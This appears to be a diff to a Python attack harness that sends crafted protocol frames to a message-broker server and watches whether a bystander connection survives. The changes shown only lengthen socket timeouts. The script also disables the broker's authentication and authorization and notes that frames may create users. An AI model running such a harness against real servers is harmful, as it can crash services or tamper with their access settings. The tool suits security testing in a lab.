@@ -92,6 +92,8 @@ ROUND_FRAMES_MAX = 8
 OPEN = {"authenticationEnabled": False, "authorizationEnabled": False}
 """So that a user which a frame happens to create locks nobody out."""
 QUIET_S = 0.002
+FIRST_S = 10.0
+"""For the first bytes, or the end: nearly always it closes the connection, and a busy machine may take its time."""
 
 
 class FrameMaker:
@@ -250,14 +252,14 @@ def answers(data: bytes) -> Iterator[int]:
 
 def attack(address: str, frames: bytes) -> bytes:
     """Send that on a connection of its own; return what comes back until it is quiet or closed."""
-    with socket.create_connection(parse_address(address), timeout=5) as peer, selectors.DefaultSelector() as selector:
+    with socket.create_connection(parse_address(address), timeout=60) as peer, selectors.DefaultSelector() as selector:
         selector.register(peer, selectors.EVENT_READ)
         with suppress(OSError):  # it may be closed while we are sending
             peer.sendall(frames)
             peer.shutdown(socket.SHUT_WR)
         received = b""
         with suppress(OSError):
-            while selector.select(1.0 if not received else QUIET_S) and (more := peer.recv(1 << 20)):
+            while selector.select(QUIET_S if received else FIRST_S) and (more := peer.recv(1 << 20)):
                 received += more
         return received
 
@@ -266,7 +268,7 @@ class Bystander:
     """A connection that was there before, and asks for nothing unusual."""
 
     def __init__(self, address: str, code: int, fields: dict[str, Any], body: bytes = b"") -> None:
-        self._socket = socket.create_connection(parse_address(address), timeout=10)
+        self._socket = socket.create_connection(parse_address(address), timeout=60)
         head = json.dumps({"code": code, "opaque": 7, "version": 479, "extFields": fields}).encode()
         self._frame = struct.pack(">II", 4 + len(head) + len(body), len(head)) + head + body
 
